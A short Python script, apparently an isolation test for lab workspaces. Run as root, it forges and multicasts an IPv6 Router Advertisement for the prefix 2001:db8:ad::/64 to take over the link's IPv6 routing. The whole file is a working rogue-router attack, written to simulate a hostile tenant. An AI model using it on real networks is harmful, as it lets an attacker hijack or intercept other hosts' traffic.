"""Run as root inside a workspace: announce this workspace as an IPv6 router on its lab
link, with the prefix 2001:db8:ad::/64 for addresses (the documentation range), once.
What a hostile workspace's root would send to take over the lab's IPv6 routing."""

import socket
import struct
import subprocess

PREFIX = socket.inet_pton(socket.AF_INET6, "2001:db8:ad::")


def lab_interface() -> str:
    route = subprocess.run(["ip", "-4", "route", "show", "default"], capture_output=True,
                           text=True, check=True).stdout.split()  # fmt: skip
    if "dev" in route:
        return route[route.index("dev") + 1]
    links = subprocess.run(["ip", "-o", "link"], capture_output=True, text=True, check=True)
    return next(line.split(": ")[1].split("@")[0] for line in links.stdout.splitlines()
                if "LOOPBACK" not in line)  # fmt: skip


def main() -> None:
    interface = lab_interface()
    addresses = subprocess.run(["ip", "-6", "addr", "show", "dev", interface, "scope", "link"],
                               capture_output=True, text=True, check=True).stdout  # fmt: skip
    if "fe80::" not in addresses:  # a router speaks from its link-local address
        subprocess.run(["ip", "-6", "addr", "add", "fe80::99/64", "dev", interface, "nodad"],
                       check=True)  # fmt: skip
    advert = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)  # type, code, sum, ...
    advert += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + PREFIX  # on-link, auto
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex(interface))
    sock.sendto(advert, ("ff02::1", 0, 0, socket.if_nametoindex(interface)))


if __name__ == "__main__":
    main()
